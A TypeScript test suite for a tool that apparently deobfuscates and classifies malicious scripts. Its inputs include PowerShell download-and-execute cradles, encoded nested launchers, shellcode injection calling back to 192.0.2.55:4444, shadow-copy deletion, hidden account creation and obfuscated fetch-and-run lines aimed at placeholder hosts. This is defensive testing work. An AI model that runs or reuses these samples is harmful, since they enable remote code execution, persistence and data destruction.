import fc from 'fast-check';
import { runCardPipeline } from '@attest/cards';
import { explainScript, scriptEngine } from '../explanation/explain-script.js';
import { analyzeScript, type AnalyzeOptions } from './analyze-script.js';
import type { ScriptAnalysis } from './script-analysis.js';

const analyze = (text: string | Uint8Array, options: AnalyzeOptions = {}): ScriptAnalysis => analyzeScript(typeof text === 'string' ? Buffer.from(text) : text, options);
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/x.ps1')";

describe('analyzeScript', () => {
  it('goes through launchers of several languages down to the last layer', () => {
    const inner = `powershell -nop -enc ${encoded(cradle)}`;
    const analysis = analyze(`@echo off\nset a=cmd\n%a% /c "${inner}"\n`, { fileName: 'a.bat' });
    expect(analysis.language).toBe('batch');
    expect(analysis.layers.map(({ text }) => text)).toEqual(expect.arrayContaining([inner, cradle]));
    expect(analysis.indicators.map(({ value }) => value)).toContain('http://a.example.test/x.ps1');
    expect(analysis.verdict).toBe('malicious');
    expect(analysis.notDecoded).toContainEqual(expect.objectContaining({ reason: 'remoteContent' }));
    const layer = analysis.layers.find(({ text }) => text === cradle);
    expect(layer?.origin.line).toBe(3);
  });

  it.each<[string, Buffer]>([
    ['UTF-16 with a mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(cradle, 'utf16le')])],
    ['UTF-16 without a mark', Buffer.from(cradle, 'utf16le')],
    ['UTF-8 with a mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(cradle)])],
    ['NULs between', Buffer.from(`${[...cradle].join('\0\0\0')}`)],
  ])('reads %s', (_name, bytes) => {
    const analysis = analyze(bytes);
    expect(analysis.language).toBe('powershell');
    expect(analysis.indicators.map(({ value }) => value)).toContain('http://a.example.test/x.ps1');
  });

  it('cites lines that hold their evidence, for every fact and indicator', () => {
    const analysis = analyze(`# comment http://no.example.test\n\n$u='http://b.exam'+'ple.test/f.exe'\n(New-Object Net.WebClient).DownloadFile($u,'C:\\Users\\Public\\f.exe')\npowershell -enc ${encoded(`schtasks /create /tn "Upd" /tr "cmd /c calc" /sc daily`)}`);
    const cited = (layer: number, line: number, endLine: number): string => (analysis.layers[layer]?.text ?? '').split(/\r\n|\n|\r/).slice(line - 1, endLine).join('\n');
    expect(analysis.facts.length).toBeGreaterThan(2);
    for (const { layer, line, endLine, values } of analysis.facts) for (const value of Object.values(values)) expect(cited(layer, line, endLine).toLowerCase()).toContain(value.toLowerCase());
    for (const { layer, line, value } of analysis.indicators) expect(cited(layer, line, line)).toContain(value);
  });

  it('opens machine code to its host and port', () => {
    const code = Buffer.concat([Buffer.from([0xfc, 0xe8, 0x82, 0, 0, 0]), Buffer.alloc(60, 0x90), Buffer.from([0x68, 192, 0, 2, 55, 0x68, 0x02, 0x00, 0x11, 0x5c]), Buffer.alloc(20, 0x90)]);
    const analysis = analyze(`[Byte[]] $c = ${[...code].map((byte) => `0x${byte.toString(16)}`).join(',')}\n$p = [W]::VirtualAlloc(0,$c.Length,0x3000,0x40)\n[Runtime.InteropServices.Marshal]::Copy($c,0,$p,$c.Length)`);
    expect(analysis.indicators.map(({ value }) => value)).toContain('192.0.2.55:4444');
    expect(analysis.verdict).toBe('malicious');
  });

  it('passes the environment of a batch file to the PowerShell it starts', () => {
    const { indicators } = analyze('@echo off\nset "p=iwr http://d.exam"\nset "q=ple.test/x -o y"\npowershell -c "iex ($env:p+$env:q)"\n', { fileName: 'a.bat' });
    expect(indicators.filter(({ type }) => type === 'url').map(({ value }) => value)).toEqual(['http://d.example.test/x']);
  });

  it('cites an indicator where it stands to the letter', () => {
    const { indicators, layers } = analyze("import ctypes\nctypes.windll.kernel32.CreateMutexW(None, False, 'Global\\\\abc-1')\nopen('C:\\\\Users\\\\Public\\\\a.exe', 'wb')", { language: 'python' });
    const lines = (layer: number): string[] => (layers[layer]?.text ?? '').split('\n');
    expect(indicators.map(({ value }) => value)).toEqual(expect.arrayContaining(['Global\\abc-1', 'C:\\Users\\Public\\a.exe']));
    for (const { layer, line, value } of indicators) expect(lines(layer)[line - 1]).toContain(value);
  });

  it.each([
    ['data written backwards', `eval "$(rev <<< 'hs | x/tset.elpmaxe.e//:ptth lruc')"`, 'bash', ['http://e.example.test/x']],
    ['a marker put in', "eval('fetQQch(\"htQQtp://fQQ.exampQQle.tesQQt/a\")'.replace(/QQ/g, ''))", 'javascript', ['http://f.example.test/a']],
    ['pieces', "iex ('iwr http://g.exam'+'ple.test/a')", 'powershell', ['http://g.example.test/a']],
    ['another case', "x='HTTP://H.EXAMPLE.TEST/a'; curl \"${x,,}\"", 'bash', ['http://h.example.test/a']],
  ] as const)('does not take %s for an address', (_name, text, language, urls) => {
    expect(analyze(text, { language }).indicators.filter(({ type }) => type === 'url').map(({ value }) => value)).toEqual(urls);
  });

  it('tells words that were put together or written in changing case', () => {
    const rules = (text: string, language: 'batch' | 'vbscript' | 'javascript'): string[] => analyze(text, { language }).facts.filter(({ techniques }) => techniques.includes('T1027.010')).map(({ rule }) => rule);
    expect(rules('set a=sch\nset b=tasks\n%a%%b% /query\n', 'batch')).toContain('splits-words');
    expect(rules('SeT sHelL = cReAtEObJeCt("WScRiPt.sHeLl")\nsHeLl.rUn "a.exe"', 'vbscript')).toEqual(['changing-case']);
    expect(rules('Set shell = CreateObject("WScript.Shell")\nshell.Run "a.exe"', 'vbscript')).toEqual([]);
    expect(rules('const a = require("fs"); a.readFileSync("XMLHttpRequest");', 'javascript')).toEqual([]);
  });

  it('calls ordinary work benign and says when it cannot tell', () => {
    expect(analyze('Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item', { fileName: 'a.ps1' }).verdict).toBe('benign');
    expect(analyze('lorem ipsum dolor sit amet').verdict).toBe('unknown');
  });

  it('keeps what it found when a limit ends it', () => {
    const analysis = analyze(`iex ('Write-Host http://'+'c.example.test')\n$a='aaaa';${'$a=$a+$a;'.repeat(40)}`);
    expect(analysis.indicators.map(({ value }) => value)).toContain('http://c.example.test');
    expect(analysis.notDecoded).toContainEqual(expect.objectContaining({ reason: 'budget' }));
  });

  it('gives a card on which nothing was dropped', async () => {
    const analysis = analyze(`powershell -w hidden -enc ${encoded(cradle)}`);
    const { facts, draft } = explainScript(analysis);
    const verified = await runCardPipeline({ facts, rulesDraft: draft, inputDigest: analysis.sha256, engine: scriptEngine });
    expect(verified.dropped).toEqual([]);
    expect(verified.card.statements.length).toBeGreaterThan(2);
  });

  it('leads with what decided the verdict, then what weighs most, and says nothing twice', () => {
    const analysis = analyze(`@echo off\npowershell -w hidden -enc ${encoded(cradle)}\nvssadmin delete shadows /all /quiet\nnet user helper P4ss /add`, { fileName: 'a.bat' });
    const { statements } = explainScript(analysis).draft;
    expect(statements[0]?.text).toMatch(/^The batch script of \d+ bytes was judged malicious: it deletes shadow copies\.$/);
    expect(statements[1]?.text).toMatch(/^It also downloads code and runs it in PowerShell \(hxxp:/);
    const cited = statements.filter(({ section }) => section === 'lead' || section === 'story').flatMap(({ facts }) => facts).filter((id) => id !== 's1');
    expect(new Set(cited).size).toBe(cited.length);
  });

  it('never throws and says the same twice, whatever the bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), fc.constantFrom(undefined, 'powershell', 'batch', 'bash', 'vbscript', 'javascript', 'python'), (bytes, language) => {
        const options = language === undefined ? {} : { language: language as 'bash' };
        expect(JSON.stringify(analyze(bytes, options))).toBe(JSON.stringify(analyze(bytes, options)));
      }),
      { numRuns: 200 },
    );
  });
});
